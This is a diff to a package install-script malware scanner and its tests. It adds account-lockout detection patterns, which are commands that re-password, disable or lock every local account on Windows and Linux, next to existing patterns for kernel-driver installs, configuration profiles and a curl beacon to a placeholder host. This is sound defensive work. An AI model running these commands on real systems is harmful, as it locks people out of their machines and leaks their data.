@@ -54,6 +54,11 @@ def rules(art: Artifact) -> set[str]:
      "install-script/session-hijack"),
     ("sc create perfctr type= kernel start= auto binPath= C:\\Windows\\System32\\drivers\\perfctr.sys", "install-script/kernel-driver"),
     ("bcdedit /set testsigning on", "install-script/kernel-driver"),
+    # blind set 29 (account access removal): every local account re-passworded, disabled or locked
+    ("for /f \"skip=4 tokens=1-3\" %%a in ('net user') do net user \"%%a\" \"!NEWPW!\"", "install-script/account-lockout"),
+    ("net user %%u /active:no", "install-script/account-lockout"),
+    ("for u in $(awk -F: '$3>=1000{print $1}' /etc/passwd); do usermod -L -e 1 \"$u\"; done", "install-script/account-lockout"),
+    ("Get-LocalUser | Disable-LocalUser", "install-script/account-lockout"),
     ("profiles install -type configuration -path ./assets/defaults.mobileconfig", "install-script/config-profile"),
     ("open ./assets/search.mobileconfig", "install-script/config-profile"),
     ("curl -d u=$(whoami) https://hooks.example/c", "install-script/beacon"),
@@ -133,6 +138,16 @@ def test_no_scripts_no_findings():
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
+
+
+@pytest.mark.parametrize("command", [
+    "net user",  # (the list of accounts)
+    "net user %USERNAME% /domain",
+    "net user builduser /add /y",
+    "passwd --status root",
+])
+def test_reading_accounts_is_not_locking_them(command):
+    assert "install-script/account-lockout" not in rules(artifact({"install": command}))
 
 
 def test_a_user_mode_service_is_no_kernel_driver():
